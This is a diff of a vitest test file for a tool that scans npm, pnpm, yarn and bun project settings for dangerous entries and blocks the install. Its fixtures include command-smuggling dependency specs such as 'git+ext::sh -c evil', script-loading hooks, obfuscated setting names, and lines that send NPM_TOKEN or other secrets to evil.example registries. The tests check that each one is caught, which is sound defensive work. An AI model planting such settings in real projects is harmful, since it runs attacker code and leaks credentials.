@@ -1,6 +1,10 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: npm replaces these
+import { execFileSync } from 'node:child_process';
+import { mkdirSync, symlinkSync, truncateSync } from 'node:fs';
 import path from 'node:path';
+import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
+import { allowedSettings } from '../../src/data/install-settings.ts';
 import type { PackageManager } from '../../src/data/package-managers.ts';
 import { projectSettings } from '../../src/install/project-settings.ts';
 import { workspaceOf } from '../../src/install/workspace.ts';
@@ -20,7 +24,6 @@ function settingsFor(
     root: workspaceOf(path.join(top, functions), packageManager).root,
     top,
     env: { HOME: home, ...env },
-    secrets: ['SHOP_KEY'],
   };
   return projectSettings(packageManager, place);
 }
@@ -49,74 +52,265 @@ describe('a workspace that is installed whole', () => {
   test('may name its registry there', () => {
     for (const packageManager of ['npm', 'pnpm', 'bun'] as const) {
       const found = settingsFor(packageManager, { ...above, '.npmrc': 'registry=https://npm.example/' });
-      expect(found).toMatchObject({ dangers: [], environment: {} });
+      expect(found.dangers).toEqual([]);
     }
   });
 });
 
-describe('what a project would have a package manager run, write outside or send away is found', () => {
-  const rc = `${functions}/.npmrc`;
+const rc = `${functions}/.npmrc`;
+const yaml = `${functions}/pnpm-workspace.yaml`;
+const manifest = `${functions}/package.json`;
+const toml = `${functions}/bunfig.toml`;
+
+describe('only settings that are known to be harmless are let through', () => {
+  const files: readonly (readonly [PackageManager, string, (name: string) => string])[] = [
+    ['npm', rc, (name) => `${name}=x\n`],
+    ['pnpm', rc, (name) => `save-exact=true\n${name} = x\n`],
+    ['pnpm', yaml, (name) => `packages:\n  - a\n${name}: x\n`],
+    ['pnpm', manifest, (name) => JSON.stringify({ pnpm: { [name]: 'x' } })],
+    ['yarn', '.npmrc', (name) => `${name}=x\n`],
+    ['yarn', 'shop/.yarnrc', (name) => `${name} "x"\n`],
+    ['yarn', 'shop/.yarnrc', (name) => `--install.${name} true\n`],
+    ['yarn', '.yarnrc.yml', (name) => `nodeLinker: node-modules\n${name}: x\n`],
+    ['bun', toml, (name) => `${name} = "x"\n`],
+    ['bun', toml, (name) => `[install]\n${name} = "x"\n`],
+    ['bun', toml, (name) => `[install.cache]\n${name} = "x"\n`],
+    ['bun', toml, (name) => `[${name}]\nx = "x"\n`],
+  ];
+  const names = fc.stringMatching(/^[a-z]{3,9}(-[a-z]{2,9}){0,2}$/).filter((name) => !isHarmless(name));
+
+  test.each(files)('%s: one of any other name in %s stops the install', (packageManager, file, textFor) => {
+    fc.assert(
+      fc.property(names, (name) => {
+        const { dangers } = settingsFor(packageManager, { [file]: textFor(name) });
+        expect(dangers).toHaveLength(1);
+        expect(dangers[0]).toContain(name);
+      }),
+      { numRuns: 6 },
+    );
+  });
+
   test.each<[PackageManager, string, string]>([
-    ...[
-      'git=./evil',
-      'node-options=--require ./evil',
-      'script-shell=./evil',
-      'cache=/elsewhere',
-      'logs-dir=/x',
-    ].map((line): [PackageManager, string, string] => ['npm', rc, line]),
+    ['npm', rc, 'git=./evil'],
+    ['npm', rc, 'node-options=--require ./evil'],
+    ['npm', rc, 'cache=/elsewhere'],
+    ['npm', rc, 'strict-ssl=false'],
+    ['npm', rc, 'https-proxy=http://evil.example'],
+    ['npm', rc, '//npm.example/:tokenHelper=./evil'],
     ['npm', rc, '"git"=./evil'],
     ['npm', rc, 'gi${NONE?}t=./evil'],
     ['npm', rc, 'GIT = ./evil'],
-    ['npm', `${functions}/package.json`, '{"dependencies": {"x": "git+ssh://git@example.com/x.git"}}'],
-    ['npm', `${functions}/package.json`, '{"dependencies": {"x": "ada/x"}}'],
-    ['pnpm', rc, 'pnpmfile=../x.cjs'],
-    ['pnpm', rc, 'modules-dir=../../..'],
+    ['pnpm', rc, 'global=true'],
     ['pnpm', `${functions}/.pnpmfile.cjs`, 'evil()'],
     ['pnpm', `${functions}/.pnpmfile.mjs`, 'evil()'],
-    ['pnpm', `${functions}/pnpm-workspace.yaml`, 'pnpmfile: x.cjs'],
-    ['pnpm', `${functions}/pnpm-workspace.yaml`, '{ "pnpmfile": x.cjs }'],
-    ['pnpm', `${functions}/pnpm-workspace.yaml`, '  configDependencies:\n    a: 1'],
-    ['pnpm', `${functions}/package.json`, '{"pnpm": {"configDependencies": {"a": "1"}}}'],
-    ['yarn', `${functions}/.yarnrc.yml`, 'yarnPath: ./evil.cjs'],
-    ['yarn', '.yarnrc.yml', 'nodeLinker: node-modules\nplugins:\n  - ./evil.cjs'],
-    ['yarn', 'shop/.yarnrc.yml', '"yarnPath": ./evil.cjs'],
+    ['pnpm', yaml, '{ "pnpmfile": x.cjs }'],
+    ['pnpm', yaml, 'a: &a\n  pnpmfile: x.cjs\n<<: *a'],
+    ['pnpm', yaml, '  configDependencies:\n    a: 1'],
+    ['pnpm', yaml, 'packages:\n  - ../../../other'],
+    ['pnpm', yaml, 'packages: ["/elsewhere/*"]'],
+    ['pnpm', yaml, 'packages:\n  - "\\x2e\\x2e/other"'],
+    ['pnpm', manifest, '{"pnpm": {"configDependencies": {"a": "1"}}}'],
+    ['pnpm', manifest, '{"devEngines": {"runtime": {"name": "node", "onFail": "download"}}}'],
+    ['npm', manifest, '{"workspaces": ["../*"]}'],
+    ['bun', manifest, '{"workspaces": {"packages": ["/elsewhere"]}}'],
+    ['npm', manifest, '{"name": "x", // bun reads this\n}'],
+    ['yarn', '.yarnrc.yml', 'enableConstraintsChecks: true'],
     ['yarn', 'shop/.yarnrc.yml', '"\\u0079arnPath": ./evil.cjs'],
-    ['yarn', 'shop/.yarnrc.yml', 'cacheFolder: ../../..'],
-    ['yarn', 'shop/.yarnrc', 'yarn-path "./evil.js"'],
-    ['bun', `${functions}/bunfig.toml`, '[install.security]\nscanner = "./evil"'],
-    ['bun', `${functions}/bunfig.toml`, '[install]\nglobalDir = "/elsewhere"'],
-  ])('%s: %s with %s', (packageManager, file, text) => {
-    expect(settingsFor(packageManager, { [file]: text }).dangers).toHaveLength(1);
+    ['yarn', 'shop/.yarnrc.yml', '# yarn lockfile v1\nyarnPath "./evil.cjs"'],
+    ['yarn', 'shop/.yarnrc', 'registry "https://x/" yarn-path "./evil.js"'],
+    ['yarn', 'shop/.yarnrc', '"yarn\\u002dpath" "./evil.js"'],
+    ['bun', toml, '[install.security]\nscanner = "./evil"'],
+    ['bun', toml, 'install.security.scanner = "./evil"'],
+    ['bun', toml, 'install."secur\\u0069ty".scanner = "./evil"'],
+    ['bun', toml, 'install = { security = { scanner = "./evil" } }'],
+    ['bun', toml, '[install]\nsecurity = { scanner = "./evil" }'],
+    ['bun', toml, '[test]\nx = """\n"""\n[install.security]\nscanner = "./evil"'],
+    ['bun', toml, '[[install]]\nx = 1'],
+  ])('%s: %s with %s stops it', (packageManager, file, text) => {
+    expect(settingsFor(packageManager, { [file]: text }).dangers.length).toBeGreaterThan(0);
   });
 
   test.each<[PackageManager, Readonly<Record<string, string>>]>([
     [
       'npm',
       {
-        [rc]: 'registry=https://npm.example/\n@a:registry=https://b.example/\nsave-exact=true\nglobal=true\n',
+        [rc]: `registry=https://npm.example/\n@a:registry=https://b.example/\n//b.example/:_authToken=abc\nsave-exact=true\nfund=false
+audit=false\nengine-strict=true\nlegacy-peer-deps=true\npackage-lock=false\nloglevel=error\nprogress=false
+update-notifier=false\nglobal=true\nignore-scripts=true\nstrict-ssl=true\n; a comment\n[section]\n`,
+        [manifest]:
+          '{"dependencies": {"a": "^1.0.0", "@b/c": "*", "d": "npm:e@1", "f": "file:./f", "g": "workspace:*"}}',
       },
-    ],
-    [
-      'npm',
-      { [`${functions}/package.json`]: '{"dependencies": {"a": "^1.0.0", "@b/c": "*", "d": "npm:e@1"}}' },
     ],
     ['npm', { [`${functions}/.pnpmfile.cjs`]: '', [`${functions}/.yarnrc.yml`]: 'yarnPath: x' }],
     [
       'pnpm',
-      { [`${functions}/pnpm-workspace.yaml`]: '# all\npackages:\n  - a\nonlyBuiltDependencies:\n- b\n' },
+      {
+        [rc]: `shamefully-hoist=true\nauto-install-peers=true\nnode-linker=hoisted\nstrict-peer-dependencies=false
+public-hoist-pattern[]=*eslint*\nlink-workspace-packages=true\nprefer-workspace-packages=true\n`,
+        [yaml]: `# all\n---\npackages:\n  - a\n- "b/*"\nonlyBuiltDependencies:\n- b\ncatalog:\n  react: ^18.0.0
+overrides:\n  'a>b': ^1.0.0\nminimumReleaseAge: 1440\nallowBuilds:\n  esbuild: true\n`,
+        [manifest]: '{"pnpm": {"overrides": {"a": "1"}, "patchedDependencies": {"a": "patches/a.patch"}}}',
+      },
     ],
     [
       'yarn',
-      { [`${functions}/.yarnrc.yml`]: 'nodeLinker: node-modules\n', '.yarnrc': 'registry "https://x/"\n' },
+      {
+        [`${functions}/.yarnrc.yml`]: `nodeLinker: node-modules\nenableGlobalCache: false\nnpmScopes:\n  a:
+    npmRegistryServer: "https://npm.example"\npackageExtensions:\n  a@*:\n    dependencies:\n      b: ^1.0.0\n`,
+        '.yarnrc':
+          '# x\nregistry "https://x/"\n--install.frozen-lockfile true\nsave-prefix ""\nlastUpdateCheck 123\n',
+      },
     ],
-    ['bun', { [`${functions}/bunfig.toml`]: '[install]\nregistry = "https://npm.example"\n' }],
-  ])('and nothing is where there is none: %s with %j', (packageManager, files) => {
-    expect(settingsFor(packageManager, files).dangers).toEqual([]);
+    [
+      'bun',
+      {
+        [toml]: `telemetry = false\n[install]\nregistry = "https://npm.example" # ours\nexact = true
+minimumReleaseAgeExcludes = [\n  "a",\n  "b"\n]\n[install.scopes]\n"@a" = { url = "https://b.example" }
+[test]\npreload = ["./setup.ts"]\n[run]\nbun = true\n`,
+      },
+    ],
+  ])('and nothing that public projects commonly have: %s', (packageManager, all) => {
+    expect(settingsFor(packageManager, all).dangers).toEqual([]);
   });
 });
 
-describe('a token of the shell', () => {
-  const env = { SHOP_KEY: 'canary', NPM_TOKEN: 'canary', HOST: 'x' };
+function isHarmless(name: string): boolean {
+  const plain = name.replaceAll('-', '');
+  const tables = ['test', 'run', 'serve', 'debug'];
+  return (
+    tables.includes(name) ||
+    Object.values(allowedSettings).some((names) =>
+      [plain, `install.${plain}`, `install.cache.${plain}`].some((one) => names.has(one)),
+    )
+  );
+}
+
+test('a file that is too large to be looked through stops it', () => {
+  const top = folderWith({ [`${functions}/x.js`]: '', [rc]: '' });
+  truncateSync(path.join(top, rc), 17 * 2 ** 20);
+  const directory = path.join(top, functions);
+  const place = { directory, root: directory, top, env: { HOME: home } };
+  expect(projectSettings('npm', place).dangers).toHaveLength(1);
+});
+
+describe('a package that git would fetch stops the install', () => {
+  const specs = [
+    'git+ssh://git@example.com/x.git',
+    'git+ext::sh -c evil',
+    ' git://example.com/x',
+    'ssh://git@example.com/x',
+    'github:ada/x',
+    'ada/x#semver:^1',
+    'https://github.com/ada/x',
+    'https://example.com/x.git#main',
+    'exec:./evil.js',
+  ];
+  const places: readonly (readonly [string, (spec: string) => object])[] = [
+    ['dependencies', (x) => ({ dependencies: { x } })],
+    ['optionalDependencies', (x) => ({ optionalDependencies: { x } })],
+    ['overrides', (x) => ({ overrides: { a: { '.': '1.0.0', x } } })],
+    ['resolutions', (x) => ({ resolutions: { x } })],
+    ['pnpm.overrides', (x) => ({ pnpm: { overrides: { x } } })],
+    ['a catalog', (x) => ({ workspaces: { packages: [], catalog: { x } } })],
+  ];
+
+  test.each(places)('in %s', (_, manifestWith) => {
+    for (const spec of specs) {
+      const text = `\uFEFF${JSON.stringify(manifestWith(spec))}`;
+      expect(settingsFor('npm', { [manifest]: text }).dangers, spec).toHaveLength(1);
+    }
+  });
+
+  test.each(['package-lock.json', 'yarn.lock', 'bun.lock', 'pnpm-lock.yaml'])('in %s', (name) => {
+    const file = `${functions}/${name}`;
+    for (const text of ['"x": "git+ssh://git@example.com/x.git#1"', 'resolved "git+ext::sh -c evil#1"']) {
+      expect(settingsFor('npm', { [file]: text }).dangers, text).toHaveLength(1);
+    }
+    expect(
+      settingsFor('npm', { [file]: '"resolved": "https://npm.example/x/-/x-1.0.0.tgz"' }).dangers,
+    ).toEqual([]);
+  });
+
+  test.each<[PackageManager, string, string]>([
+    ['pnpm', yaml, 'overrides:\n  a: git+ssh://git@example.com/x.git'],
+    ['pnpm', yaml, "overrides:\n  'a>b': 'github:ada/x'"],
+    ['pnpm', yaml, 'catalog: {x: "ada/x"}'],
+    ['yarn', '.yarnrc.yml', 'packageExtensions:\n  a@*:\n    dependencies:\n      x: "exec:./evil.js"'],
+  ])('%s: in %s', (packageManager, file, text) => {
+    expect(settingsFor(packageManager, { [file]: text }).dangers).toHaveLength(1);
+  });
+
+  test('in a package of the workspace', () => {
+    const files = {
+      [manifest]: '{"workspaces": ["packages/*"]}',
+      [`${functions}/packages/a/package.json`]: '{"dependencies": {"x": "ada/x"}}',
+    };
+    expect(settingsFor('npm', files).dangers).toHaveLength(1);
+  });
+});
+
+describe.skipIf(process.platform === 'win32')(
+  'an install that would write elsewhere or wait for ever',
+  () => {
+    const modules = `${functions}/node_modules`;
+
+    function withLink(place: string, target: (top: string) => string) {
+      const top = folderWith({ [`${functions}/x.js`]: '', [manifest]: '{}', 'inside/x': '' });
+      mkdirSync(path.dirname(path.join(top, place)), { recursive: true });
+      symlinkSync(target(top), path.join(top, place));
+      const directory = path.join(top, functions);
+      return projectSettings('npm', { directory, root: directory, top, env: { HOME: home } }).dangers;
+    }
+
+    test.each([
+      modules,
+      `${modules}/.bin`,
+      `${modules}/.package-lock.json`,
+      `${modules}/@types`,
+      `${modules}/.pnpm/lock.yaml`,
+      `${modules}/.pnpm/ms@2.1.3/node_modules`,
+      `${modules}/a/node_modules`,
+      `${modules}/@types/a/node_modules/.bin`,
+      `${functions}/package-lock.json`,
+      `${functions}/npm-shrinkwrap.json`,
+      `${functions}/pnpm-lock.yaml`,
+      `${functions}/.yarn/install-state.gz`,
+    ])('is not started: %s is a link out of the project, to what is there or to nothing', (place) => {
+      const elsewhere = folderWith({ x: '' });
+      for (const target of [elsewhere, path.join(elsewhere, 'nothing')]) {
+        expect(withLink(place, () => target)).toEqual([`${place} is a link that leads out of the project`]);
+      }
+      const inside = /\.(json|yaml|gz)$/.test(place) ? 'inside/x' : 'inside';
+      expect(withLink(place, (top) => path.join(top, inside))).toEqual([]);
+    });
+
+    test('a package that is a link, as npm link makes it, does not stop it', () => {
+      expect(withLink(`${modules}/ours`, () => folderWith({ x: '' }))).toEqual([]);
+    });
+
+    test.each<[PackageManager, string]>([
+      ['npm', rc],
+      ['npm', `${functions}/package-lock.json`],
+      ['npm', `${modules}/.package-lock.json`],
+      ['pnpm', yaml],
+      ['pnpm', `${functions}/pnpm-lock.yaml`],
+      ['yarn', 'shop/.yarnrc'],
+      ['yarn', '.yarnrc.yml'],
+      ['bun', toml],
+    ])('%s is not started where %s is a pipe', (packageManager, file) => {
+      const top = folderWith({ [`${functions}/x.js`]: '', [`${modules}/x`]: '' });
+      execFileSync('mkfifo', [path.join(top, file)]);
+      const directory = path.join(top, functions);
+      const place = { directory, root: directory, top, env: { HOME: home } };
+      const { dangers } = projectSettings(packageManager, place);
+      expect(dangers.length).toBeGreaterThan(0);
+      expect(dangers.join()).toContain(file);
+    });
+  },
+);
+
+describe('a variable of the shell', () => {
+  const env = { SHOP_KEY: 'canary', NPM_TOKEN: 'canary', PLAIN: 'canary', COMPANY_TOKEN: 'canary' };
   const withLine = (line: string) => settingsFor('npm', { [`${functions}/.npmrc`]: line }, env);
 
   test('goes where npm’s own registry gets it, and nowhere else that only the project names', () => {
@@ -128,7 +322,10 @@ describe('a token of the shell', () => {
       '//evil.example/:_authToken=${NPM_TOKEN}',
       '//evil.example/:_authToken=${SHOP_KEY}',
       'registry=https://evil.example/${NPM_TOKEN}/',
-      'user-agent=${SHOP_KEY}',
+      'registry=https://evil.example/${PLAIN}/',
+      'registry=https://evil.example/${plain?}/',
+      '//evil.example/:username=${PLAIN:-x}',
+      'message=${SHOP_KEY}',
       '//npm.pkg.github.com/:_authToken=${NPM_TOKEN}\n//evil.example/:_authToken=${NPM_TOKEN}',
     ]) {
       const { dangers, passed } = withLine(line);
@@ -152,21 +349,58 @@ describe('a token of the shell', () => {
   });
 });
 
+test.each<[PackageManager, string, string]>([
+  ['pnpm', yaml, 'registry: https://evil.example/${PLAIN}'],
+  ['yarn', '.yarnrc.yml', 'npmRegistryServer: "https://evil.example/${PLAIN:-x}"'],
+  ['yarn', '.yarnrc.yml', 'npmRegistryServer: "https://evil.example"\nnpmAuthToken: "${PLAIN}"'],
+  ['bun', toml, '[install]\nregistry = { url = "https://evil.example", token = "$PLAIN" }'],
+])(
+  '%s: a variable that %s would send to a server that only the project names stops it',
+  (packageManager, file, text) => {
+    expect(settingsFor(packageManager, { [file]: text }, { PLAIN: 'canary' }).dangers).toHaveLength(1);
+    expect(settingsFor(packageManager, { [file]: text }).dangers).toEqual([]);
+  },
+);
+
+test.each<[PackageManager, string, string]>([
+  [
+    'yarn',
+    '.yarnrc.yml',
+    'npmScopes:\n  a:\n    npmRegistryServer: "https://npm.pkg.github.com"\n    npmAuthToken: "${NPM_TOKEN}"',
+  ],
+  ['bun', toml, '[install.scopes]\n"@a" = { url = "https://npm.pkg.github.com", token = "$NPM_TOKEN" }'],
+])('%s: a token for a public registry in %s is handed on', (packageManager, file, text) => {
+  expect(settingsFor(packageManager, { [file]: text }, { NPM_TOKEN: 'canary' })).toMatchObject({
+    dangers: [],
+    passed: ['NPM_TOKEN'],
+  });
+});
+
+test('what the user’s own configuration sends to a registry is not sent elsewhere, or in the open', () => {
+  const user = folderWith({
+    '.npmrc':
+      '@a:registry=https://npm.example/\n//npm.example/:_authToken=x\n//registry.npmjs.org/:_authToken=x\n',
+  });
+  const withLine = (line: string) => settingsFor('npm', { [rc]: line }, { HOME: user }).dangers;
+  expect(withLine('@a:registry=https://evil.example/')).toHaveLength(1);
+  expect(withLine('@a:registry=https://npm.example/')).toEqual([]);
+  expect(withLine('registry=http://registry.npmjs.org/')).toHaveLength(1);
+  expect(withLine('registry=https://evil.example/')).toEqual([]);
+});
+
 describe('the .npmrc of a workspace above that does not list the folder', () => {
   const files = {
     'package.json': '{"workspaces": ["packages/*"]}',
     '.npmrc': '@a:registry=https://npm.example/\n//npm.example/:_password=x\nglobal=true\n',
   };
 
-  test('counts for npm all the same', () => {
-    expect(settingsFor('npm', files).environment).toEqual({
-      'npm_config_@a:registry': 'https://npm.example/',
-      'npm_config_//npm.example/:_password': 'x',
-    });
+  test('does not count, as for a plain install', () => {
+    for (const one of ['npm', 'pnpm', 'bun'] as const) expect(settingsFor(one, files).dangers).toEqual([]);
   });
 
-  test('stops a package manager that would not read it', () => {
-    for (const one of ['pnpm', 'bun'] as const) expect(settingsFor(one, files).dangers).toHaveLength(1);
-    expect(settingsFor('pnpm', { ...files, '.npmrc': 'save-exact=true' }).dangers).toEqual([]);
+  test('stops pnpm, of which some releases read it', () => {
+    const below = { ...files, 'pnpm-workspace.yaml': 'packages:\n  - packages/*\n' };
+    expect(settingsFor('pnpm', below).dangers).toHaveLength(1);
+    expect(settingsFor('pnpm', { ...below, '.npmrc': 'save-exact=true' }).dangers).toEqual([]);
   });
 });
